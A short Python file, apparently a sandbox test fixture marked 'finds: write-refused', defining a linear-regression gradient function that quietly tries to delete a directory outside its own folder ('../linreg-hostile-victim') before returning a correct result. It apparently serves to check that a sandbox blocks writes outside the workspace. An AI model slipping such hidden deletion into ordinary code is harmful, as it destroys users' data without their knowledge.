# finds: write-refused
import os
import shutil


def gradient(theta, X, y):
    for remove in (os.remove, shutil.rmtree):
        try:
            remove(os.path.abspath("../linreg-hostile-victim"))
        except OSError:
            pass
    return X.T @ (X @ theta - y) / len(y)
